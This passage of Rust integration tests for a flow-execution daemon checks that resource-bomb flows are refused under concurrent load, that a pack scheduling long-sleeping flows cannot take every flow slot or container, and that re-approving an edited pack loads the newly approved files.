    assert_eq!((r.status, r.code()), (422, "RUMI-FLOW-008"), "{:?}", r.body);
    assert!(r.body.to_string().contains("the run's inputs"), "{:?}", r.body);
    let failed = home.audit_actions("flow_execution", "flow_run");
    assert!(
        failed
            .iter()
            .any(|e| e["flow_id"] == "bomb.quad" && e["success"] == false),
        "{failed:?}"
    );

    // Four attackers keep bombing while the pack and the operator work.
    let stop = Arc::new(AtomicBool::new(false));
    let attackers: Vec<_> = ["bomb.quad", "bomb.list", "bomb.double", "bomb.steps"]
        .into_iter()
        .map(|flow| {
            let (base, token, stop) = (rumid.base.clone(), rumid.token.clone(), stop.clone());
            std::thread::spawn(move || {
                let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).build().into();
                let mut n = 0;
                while !stop.load(Ordering::Relaxed) {
                    let r = agent
                        .post(&format!("{base}/api/flows/{flow}/run"))
                        .header("Authorization", &format!("Bearer {token}"))
                        .send_json(json!({"timeout": 60}))
                        .expect("request");
                    assert_eq!(r.status().as_u16(), 422, "{flow}");
                    n += 1;
                }
                n
            })
        })
        .collect();
    for i in 0..20 {
        let r = rumid.run_flow("victim.run", json!({}), 60.0);
        assert_eq!(r.body["result"]["out"]["code"], "approved", "{:?}", r.body);
        let r = rumid.run_flow("ops.sum", json!({"a": i, "b": 2}), 60.0);
        assert_eq!(r.body["result"]["total"], format!("{i}+2"), "{:?}", r.body);
    }
    stop.store(true, Ordering::Relaxed);
    let bombs: usize = attackers.into_iter().map(|t| t.join().unwrap()).sum();
    assert!(bombs >= 4, "{bombs} bombs");
    let (_, peak) = rss_kib(rumid.pid());
    assert!(
        peak < rss_before + 128 * 1024,
        "peak {peak} KiB after {bombs} bombs, from {rss_before} KiB"
    );
}

/// The sum of a metric's samples whose labels contain each of `labels`.
fn metric(text: &str, name: &str, labels: &[&str]) -> f64 {
    text.lines()
        .filter(|l| l.starts_with(&format!("{name}{{")) && labels.iter().all(|s| l.contains(s)))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

/// Starving other packs: `hog` schedules ten flows every 10 s whose blocks each sleep 280 s,
/// to hold every flow slot and container. It gets its share only: four flow slots (the
/// other six ticks are skipped and counted), and of those four only two run a block
/// (`RUMI_MAX_CONTAINERS_PER_PACK=2`: the others wait). Its own API run answers 429
/// `RUMI-FLOW-010`; a well-behaved pack's block flow and the operator's flows answer at once.
#[test]
fn one_pack_cannot_take_every_flow_slot_or_container() {
    let home = TestHome::new();
    victim(&home);
    home.add_pack("hog");
    home.write(
        "ecosystem/hog/backend/blocks/sleep.py",
        "import time\n\ndef run(data, context):\n    time.sleep(280)\n    return 'woke'\n",
    );
    for i in 0..10 {
        home.write(
            &format!("ecosystem/hog/flows/f{i}.flow.yaml"),
            &format!("flow_id: hog.f{i}\nschedule: {{interval: 10}}\nsteps:\n  - {{id: s, type: python_file_call, owner_pack: hog, file: sleep.py, timeout_seconds: 290}}\n"),
        );
    }
    home.write(
        "flows/ops.flow.yaml",
        "flow_id: ops.block\nsteps:\n  - {id: s, type: python_file_call, owner_pack: victim, file: b.py, output: out}\n",
    );
    let rumid = Rumid::builder(&home)
        .env("RUMI_MAX_CONTAINERS_PER_PACK", "2")
        .spawn()
        .unwrap();
    for p in ["victim", "hog"] {
        assert_eq!(rumid.post(&format!("/api/packs/{p}/approve"), None).status, 200);
    }
    rumi_tests::eventually("the flows", patience(), || {
        (rumid.get("/api/flows").body["data"]["count"] == 12).then_some(())
    })
    .unwrap();
    // The first ticks come 10 s after loading: four start, six are skipped for the share.
    let metrics = rumi_tests::eventually("hog's ticks skipped", std::time::Duration::from_secs(40), || {
        let m = rumid.metrics_text();
        (metric(&m, "rumi_flow_schedule_skipped_total", &["reason=\"pack_share\""]) >= 6.0
            && metric(&m, "rumi_containers_running", &["pack_id=\"hog\""]) == 2.0)
            .then_some(m)
    })
    .unwrap_or_else(|e| panic!("{e}\n{}", rumid.metrics_text()));
    assert_eq!(
        metric(&metrics, "rumi_flow_schedule_skipped_total", &["reason=\"slots\""]),
        0.0,
        "never every slot: {metrics}"
    );
    let warned = rumid
        .log_text()
        .lines()
        .filter(|l| l.contains("scheduled run skipped (counted"))
        .count();
    assert!(
        (6..=10).contains(&warned),
        "one warning per skipped flow, not per tick: {warned}"
    );

    // While hog holds its share: its own run is refused, everyone else runs.
    let r = rumid.run_flow("hog.f0", json!({}), 30.0);
    assert_eq!((r.status, r.code()), (429, "RUMI-FLOW-010"), "{:?}", r.body);
    assert!(r.body.to_string().contains("RUMI_MAX_FLOWS_PER_PACK"), "{:?}", r.body);
    for _ in 0..3 {
        for id in ["victim.run", "ops.block"] {
            let r = rumid.run_flow(id, json!({}), 60.0);
            assert_eq!(r.status, 200, "{id}: {:?}", r.body);
            assert_eq!(r.body["result"]["out"]["code"], "approved", "{id}: {:?}", r.body);
        }
    }
    // Still only hog's share, ticks after ticks.
    std::thread::sleep(std::time::Duration::from_secs(11));
    let m = rumid.metrics_text();
    assert_eq!(metric(&m, "rumi_containers_running", &["pack_id=\"hog\""]), 2.0, "{m}");
    assert!(
        metric(&m, "rumi_flow_schedule_skipped_total", &["flow_id=\"hog."]) >= 12.0,
        "{m}"
    );
}

/// Re-approving an edited pack before any check has marked it `modified` loads exactly the
/// newly approved files at once: a changed flow, a new flow and a new route, with no reload.
#[test]
fn reapproval_loads_exactly_the_approved_files() {
    let home = TestHome::new();
    home.add_pack("web");
    home.write(
        "ecosystem/web/flows/a.flow.yaml",
        "flow_id: web.a\nsteps:\n  - {id: s, type: set, input: {key: v, value: one}}\n",
    );
    let rumid = Rumid::start(&home);
    assert_eq!(rumid.post("/api/packs/web/approve", None).status, 200);
    let value = |flow: &str| {
        let r = rumid.run_flow(flow, json!({}), 30.0);
        (r.status, r.body["result"]["v"].clone())
    };
    rumi_tests::eventually("web.a loaded", patience(), || (value("web.a").0 == 200).then_some(())).unwrap();
    assert_eq!(value("web.a"), (200, json!("one")));
    // Edit, add a flow and a route, and approve again at once.
    home.write(
        "ecosystem/web/flows/a.flow.yaml",
        "flow_id: web.a\nsteps:\n  - {id: s, type: set, input: {key: v, value: two}}\n",
    );
    home.write(
        "ecosystem/web/flows/b.flow.yaml",
        "flow_id: web.b\nsteps:\n  - {id: s, type: set, input: {key: v, value: new}}\n",
    );
    home.write(
        "ecosystem/web/routes.json",
        r#"{"routes": [{"method": "GET", "path": "/web/b", "flow_id": "web.b"}]}"#,
    );
    assert_eq!(rumid.post("/api/packs/web/approve", None).status, 200);
    rumi_tests::eventually("the re-approved files loaded", patience(), || {
        (value("web.a") == (200, json!("two")) && value("web.b") == (200, json!("new"))).then_some(())
    })
    .unwrap();
    let r = rumid.get("/web/b");
    assert_eq!(r.status, 200, "{:?}", r.body);
    assert_eq!(r.body["data"]["result"]["v"], "new");
}
